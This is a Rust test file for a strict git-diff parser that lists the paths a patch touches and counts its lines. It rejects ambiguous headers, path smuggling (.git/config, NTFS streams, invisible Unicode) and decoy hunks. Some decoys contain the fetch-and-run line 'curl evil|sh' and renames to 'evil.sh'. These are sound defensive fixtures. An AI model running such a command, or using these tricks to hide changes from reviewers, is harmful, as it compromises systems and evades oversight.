use super::*;

fn read(text: &str) -> Option<(Vec<String>, u64, u64)> {
    let mut touched = Touched::default();
    touched.add(text.as_bytes()).ok()?;
    Some((touched.paths, touched.added, touched.removed))
}

fn paths(text: &str) -> Option<Vec<String>> {
    read(text).map(|(paths, _, _)| paths)
}

/// A changed line in a file, below these headers.
fn changed(headers: &str) -> String {
    format!("{headers}@@ -1 +1 @@\n-a\n+b\n")
}

const PLAIN: &str = "diff --git a/docs/x b/docs/x\nindex 1234567..89abcde 100644\n--- a/docs/x\n+++ b/docs/x\n@@ -1 +1 @@\n-a\n+b\n";

#[test]
fn the_old_spelling_of_a_rename_is_not_passed_over() {
    let headers = "diff --git a/docs/x b/docs/x\nsimilarity index 50%\nrename old docs/x\nrename new evil.sh\n";
    assert_eq!(paths(&changed(headers)), None);
}

#[test]
fn a_rename_without_a_hunk_in_the_old_spelling_is_not_passed_over() {
    let text = "diff --git a/docs/x b/docs/x\nsimilarity index 100%\nrename old docs/x\nrename new evil.sh\n";
    assert_eq!(paths(text), None);
}

#[test]
fn a_part_that_git_would_strip_is_not_taken_for_a_folder() {
    assert_eq!(
        paths(&changed("--- docs/deploy.sh\n+++ docs/deploy.sh\n")),
        None
    );
    assert_eq!(
        paths(&changed(
            "diff --git docs/deploy.sh docs/deploy.sh\nindex 1234567..89abcde 100644\n--- docs/deploy.sh\n+++ docs/deploy.sh\n"
        )),
        None
    );
}

#[test]
fn what_other_programs_apply_is_not_hidden_behind_a_header() {
    for decoy in [
        "1c\ncurl evil|sh\n.\n",
        "1c1\n< a\n---\n> curl evil|sh\n",
        "*** a/evil.sh\n--- b/evil.sh\n***************\n*** 1 ****\n! a\n--- 1 ----\n! b\n",
        "--- evil.sh\n+++ evil.sh\n@@ -1 +1 @@\n-a\n+b\n",
        "Index: evil.sh\n",
        "\n",
        "words\n",
    ] {
        assert_eq!(paths(&format!("{PLAIN}{decoy}")), None, "{decoy}");
        assert_eq!(paths(&format!("{decoy}{PLAIN}")), None, "{decoy}");
    }
}

#[test]
fn a_patch_says_what_it_touches_and_how_much() {
    let none: &[&str] = &[];
    let table: [(&str, &[&str], u64, u64); 12] = [
        ("", none, 0, 0),
        (" \n", none, 0, 0),
        (PLAIN, &["docs/x"], 1, 1),
        // A line that looks like a header is one of the hunk, which is counted off.
        (
            "diff --git a/x b/x\nindex 1234..5678 100644\n--- a/x\n+++ b/x\n@@ -1,3 +1,3 @@ fn a()\n context\n--- no header\n+++ none either\n\n@@ -9 +9 @@\n-a\n+b\n\\ No newline at end of file\n",
            &["x"],
            2,
            2,
        ),
        (
            "diff --git a/old.md b/docs/new.md\nsimilarity index 100%\nrename from old.md\nrename to docs/new.md\n",
            &["old.md", "docs/new.md"],
            1,
            1,
        ),
        (
            "diff --git a/x b/y\nsimilarity index 50%\nrename from x\nrename to y\nindex 1234..5678 100644\n--- a/x\n+++ b/y\n@@ -1 +1,2 @@\n a\n+b\n",
            &["x", "y"],
            2,
            1,
        ),
        (
            "diff --git a/x b/y\nsimilarity index 100%\ncopy from x\ncopy to y\n",
            &["x", "y"],
            1,
            0,
        ),
        (
            "diff --git a/run b/run\nold mode 100644\nnew mode 100755\n",
            &["run"],
            1,
            1,
        ),
        (
            "diff --git a/run b/run\nold mode 100644\nnew mode 100755\nindex 1234..5678\n--- a/run\n+++ b/run\n@@ -1 +0,0 @@\n-a\n",
            &["run"],
            1,
            2,
        ),
        (
            "diff --git a/x b/x\nnew file mode 100644\nindex 0000000..1234567\n--- /dev/null\n+++ b/x\n@@ -0,0 +1,2 @@\n+a\n+b\n",
            &["x"],
            2,
            0,
        ),
        (
            "diff --git a/x b/x\nnew file mode 100755\nindex 0000000..e69de29\n",
            &["x"],
            1,
            0,
        ),
        (
            "diff --git a/x b/x\ndeleted file mode 100644\nindex e69de29..0000000\n",
            &["x"],
            0,
            1,
        ),
    ];
    for (text, paths, added, removed) in table {
        let paths = paths.iter().map(|&path| path.to_owned()).collect();
        assert_eq!(read(text), Some((paths, added, removed)), "{text}");
    }
}

#[test]
fn the_same_file_may_be_touched_twice_and_patches_add_up() {
    let mut touched = Touched::default();
    for _ in 0..2 {
        touched.add(format!("{PLAIN}{PLAIN}").as_bytes()).unwrap();
    }
    assert_eq!(touched.paths, ["docs/x"]);
    assert_eq!(touched.lines(), 8);
}

#[test]
fn every_name_that_git_writes_is_read_or_the_patch_is_not_understood() {
    for (both, path) in [
        ("a/two words b/two words", "two words"),
        ("a/x b/x b/x b/x", "x b/x"),
        ("a/b/x b/b/x", "b/x"),
        ("a/été b/été", "été"),
        ("\"a/\\303\\251\" \"b/\\303\\251\"", "é"),
        ("\"a/\\\"1\\\"\" \"b/\\\"1\\\"\"", "\"1\""),
        ("a/.github/x b/.github/x", ".github/x"),
        ("a/.gitignore b/.gitignore", ".gitignore"),
        ("a/a..b/... b/a..b/...", "a..b/..."),
    ] {
        let text = format!("diff --git {both}\nnew file mode 100644\n");
        assert_eq!(paths(&text), Some(vec![path.to_owned()]), "{text}");
    }
    for both in [
        "x x",
        "i/x w/x",
        "b/x a/x",
        "a/x b/y",
        "a/x  b/x",
        "a/x b/x ",
        "a/x b/x\r",
        "a/x\tb/x",
        "a/ b/",
        "a//x b//x",
        "a/../x b/../x",
        "a/./x b/./x",
        "a/x/ b/x/",
        "a/x/.. b/x/..",
        "a/.git/config b/.git/config",
        "a/x/.GIT/config b/x/.GIT/config",
        "a/.git./config b/.git./config",
        "a/.git /config b/.git /config",
        "a/.git::$INDEX_ALLOCATION/x b/.git::$INDEX_ALLOCATION/x",
        "a/GIT~1/config b/GIT~1/config",
        "a/.g\u{200c}it/config b/.g\u{200c}it/config",
        "a/x\u{202e}y b/x\u{202e}y",
        "\"a/.git\\\\x\" \"b/.git\\\\x\"",
        "\"a/x\\n\" \"b/x\\n\"",
        "\"a/x\\000\" \"b/x\\000\"",
        "\"a/\\377\" \"b/\\377\"",
        "\"a/\\9\" \"b/\\9\"",
        "\"a/\\400\" \"b/\\400\"",
        "\"a/x\" \"b/x",
        "\"a/x\" \"b/x\" ",
        "\"a/x\"\"b/x\"",
        "a/\"x b/\"x",
        "a/\\x b/\\x",
    ] {
        let text = format!("diff --git {both}\nnew file mode 100644\n");
        assert_eq!(paths(&text), None, "{text}");
    }
    // Only one of the names of a rename has to be quoted.
    for both in ["\"a/\\303\\251\" b/x y", "a/\\303\\251 b/x y"] {
        let read = paths(&format!(
            "diff --git {both}\nrename from \"\\303\\251\"\nrename to x y\n"
        ));
        let quoted = both.starts_with('"');
        assert_eq!(read.is_some(), quoted, "{both}");
    }
    let quoted_behind =
        "diff --git a/x y \"b/\\303\\251\"\ncopy from x y\ncopy to \"\\303\\251\"\n";
    assert_eq!(
        paths(quoted_behind),
        Some(vec!["x y".to_owned(), "é".to_owned()])
    );
    // Git ends a name that has a blank by a tab, which no longer is its own.
    let blank = "diff --git a/x y b/x y\nindex 1234..5678 100644\n--- a/x y\t\n+++ b/x y\t\n";
    assert_eq!(paths(&changed(blank)), Some(vec!["x y".to_owned()]));
}

#[test]
fn headers_that_disagree_or_are_unknown_are_not_understood() {
    for headers in [
        // The type of the file is not said: it may be a link.
        "diff --git a/x b/x\n--- a/x\n+++ b/x\n",
        "diff --git a/x b/x\nindex 1234..5678\n--- a/x\n+++ b/x\n",
        "diff --git a/x b/x\nindex 1234..5678 120000\n--- a/x\n+++ b/x\n",
        "diff --git a/x b/x\nindex 1234..5678 160000\n--- a/x\n+++ b/x\n",
        "diff --git a/x b/x\nold mode 100644\nnew mode 120000\nindex 1234..5678\n--- a/x\n+++ b/x\n",
        "diff --git a/x b/x\nold mode 100644\nnew mode 100644\nindex 1234..5678\n--- a/x\n+++ b/x\n",
        "diff --git a/x b/x\nold mode 100644\nnew mode 100755\nindex 1234..5678 100644\n--- a/x\n+++ b/x\n",
        "diff --git a/x b/x\nnew mode 100755\nindex 1234..5678 100644\n--- a/x\n+++ b/x\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n--- a/x\n+++ b/y\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n--- a/y\n+++ b/x\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n--- x\n+++ x\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n--- b/x\n+++ a/x\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n--- /dev/null\n+++ b/x\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n--- a/x\n+++ /dev/null\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n+++ b/x\n--- a/x\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n--- a/x\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n--- a/x\t2026-01-01\n+++ b/x\t2026-01-01\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\r\n--- a/x\r\n+++ b/x\r\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n--- a/x\n+++ b/x\nwords\n",
        "diff --git a/x b/x\nindex 1234..56z8 100644\n--- a/x\n+++ b/x\n",
        "diff --git a/x b/x\nnew file mode 100644\nindex 0000..5678\n--- /dev/null\n+++ b/x\n",
        "diff --git a/x b/x\ndeleted file mode 100644\nindex 0000..5678\n--- a/x\n+++ /dev/null\n",
        "diff --git a/x b/y\nrename from x\nrename to z\nindex 1234..5678 100644\n--- a/x\n+++ b/y\n",
        "diff --git a/x b/y\nrename from x\nindex 1234..5678 100644\n--- a/x\n+++ b/y\n",
        "diff --git a/x b/y\nrename from x\ncopy to y\nindex 1234..5678 100644\n--- a/x\n+++ b/y\n",
        "diff --git a/x b/y\nindex 1234..5678 100644\n--- a/x\n+++ b/y\n",
        "diff --git a/x b/x\nsimilarity index 90%\nindex 1234..5678 100644\n--- a/x\n+++ b/x\n",
        "diff --git a/x b/x\ndiff --git a/x b/x\nindex 1234..5678 100644\n--- a/x\n+++ b/x\n",
    ] {
        assert_eq!(paths(&changed(headers)), None, "{headers}");
    }
    for text in [
        "diff --git a/x b/x\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\n",
        "diff --git a/x b/x\nold mode 100644\n",
        "diff --git a/x b/x\nold mode 100644\nnew mode 100755",
        "diff --git a/x b/x\nnew file mode 120000\n",
        "diff --git a/x b/x\nnew file mode 160000\n",
        // What of the file goes is left out.
        "diff --git a/x b/x\ndeleted file mode 100644\nindex 1234567..0000000\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\nBinary files a/x and b/x differ\n",
        "diff --git a/x b/x\nindex 1234..5678 100644\nGIT binary patch\nliteral 0\nHcmV?d00001\n\n",
        "diff --cc x\nindex 1,2..3\n--- a/x\n+++ b/x\n@@@ -1,2 -1,2 +1,3 @@@\n  one\n++two\n",
        "Submodule x 1234567..89abcde:\n",
        "From 1234 Mon Sep 17 00:00:00 2001\nSubject: x\n\n---\n",
        "+ a list\n- of things\n",
        "Only in new: secret.sh\n",
    ] {
        assert_eq!(paths(text), None, "{text}");
        assert_eq!(paths(&format!("{PLAIN}{text}")), None, "{text}");
    }
}

#[test]
fn a_hunk_has_exactly_the_lines_that_it_says() {
    const HEADERS: &str = "diff --git a/x b/x\nindex 1234..5678 100644\n--- a/x\n+++ b/x\n";
    for hunk in [
        "@@ -1,3 +1,3 @@\n one\n-two\n+three\n",
        "@@ -1 +1 @@\n-one\n-two\n+three\n",
        "@@ -1 +1 @@\n one\n",
        "@@ -1 +1 @@\n-one\n+two",
        "@@ -1 +1 @@\n-one\n+two\n \n",
        "@@ -1 +1 @@\n-one\n+two\n-- \n2.47.3\n",
        "@@ -1 +1 @@\r\n-one\r\n+two\r\n",
        "@@ -1 +1 @@x\n-one\n+two\n",
        "@@ -1,a +1 @@\n-one\n+two\n",
        "@@ -1,99999999999999999999 +1 @@\n-one\n+two\n",
        "@@ -+1 +1 @@\n-one\n+two\n",
        "@@ -1 +1 @@\n-one\n\\ No newline at end of file\n\\ No newline at end of file\n+two\n",
        "@@ -1 +1,2 @@\n-one\n+cu\n\\ No newline at end of file\n+rl\n",
        "@@ -1 +1 @@\n\\ No newline at end of file\n-one\n+two\n",
        "@@ -1 +1 @@\n-one\n+two\n\\ words that nobody sees\n",
        "@@ nonsense\n",
        "",
    ] {
        assert_eq!(paths(&format!("{HEADERS}{hunk}")), None, "{hunk}");
    }
    // Carriage returns are of the file's own lines, and so is what is not UTF-8.
    let mut touched = Touched::default();
    let hunk = b"@@ -1,2 +1,2 @@ caf\xe9\r \n caf\xe9\r\n-one\rtwo\r\n\\ No newline at end of file\n+three\r\n";
    touched.add(&[HEADERS.as_bytes(), hunk].concat()).unwrap();
    assert_eq!((touched.added, touched.removed), (1, 1));
}

#[test]
fn too_many_files_are_not_told() {
    let of = |files: usize| {
        let file = |n| format!("diff --git a/{n} b/{n}\nnew file mode 100644\n");
        (0..files).map(file).collect::<Vec<_>>().concat()
    };
    assert_eq!(
        paths(&of(MOST_PATHS)).map(|paths| paths.len()),
        Some(MOST_PATHS)
    );
    assert_eq!(paths(&of(MOST_PATHS + 1)), None);
}
